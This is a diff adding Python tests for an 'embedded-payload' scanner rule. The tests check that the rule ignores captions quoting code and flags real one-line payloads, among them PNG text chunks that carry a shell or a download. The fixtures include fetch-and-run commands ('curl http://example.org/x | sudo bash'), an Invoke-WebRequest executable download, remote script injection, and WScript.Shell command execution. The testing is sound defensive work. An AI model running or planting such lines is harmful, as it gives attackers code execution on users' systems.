@@ -1,0 +1,49 @@
+"""Words about code, which quote it in one line, and code of one line: only the latter is a payload."""
+
+from __future__ import annotations
+
+from typing import TYPE_CHECKING
+
+from tests.embedding import in_comments, with_chunk
+
+if TYPE_CHECKING:
+    from tests.conftest import Fired
+
+RULE = "embedded-payload"
+
+
+def test_is_silent_about_captions_that_quote_a_call_in_one_line(fired: Fired) -> None:
+    told = [
+        b'document.write("hello") in a JS lesson',
+        b"Invoke-WebRequest - PowerShell tee",
+        b"curl -s site | sh, on a mug",
+        b'os.system("clear") mug',
+        b'CreateObject("Shell.Application") on a slide',
+        b'var x = document.write("hi") - slide',
+        b'# whiteboard: document.write("hi")',
+    ]
+    assert fired(RULE, in_comments(told)) == {}
+
+
+def test_finds_code_of_one_line_with_what_languages_take_behind_a_call(fired: Fired) -> None:
+    written = [
+        b'import os; os.system("id")',
+        b'os.system("curl http://example.org/x | sh") if os.name else None',
+        b'document.write("<script src=//example.org/x.js></script>");',
+        b'var x = new ActiveXObject("WScript.Shell"); x.Run("cmd")',
+        b"eval(atob('YWxlcnQoMSkYWxlcnQoMSk=')) // lesson",
+        b"curl -s http://example.org/x | sudo bash",
+        b"Invoke-WebRequest http://example.org/x.exe -OutFile x.exe",
+    ]
+    files = in_comments(written)
+    assert fired(RULE, files).keys() == files.keys()
+
+
+def test_a_plot_s_source_may_ask_for_versions_and_run_nothing_else(fired: Fired) -> None:
+    source = b"Source\0import os, sys, subprocess\nx = subprocess.check_output(['%s', '%s'])\nprint(x)\n"
+    files = {
+        "git.png": with_chunk(b"tEXt", source % (b"git", b"rev-parse")),
+        "curl.png": with_chunk(b"tEXt", source % (b"curl", b"http://example.org/x")),
+        "shell.png": with_chunk(b"tEXt", source % (b"sh", b"-i")),
+    }
+    assert fired(RULE, files).keys() == {"curl.png", "shell.png"}
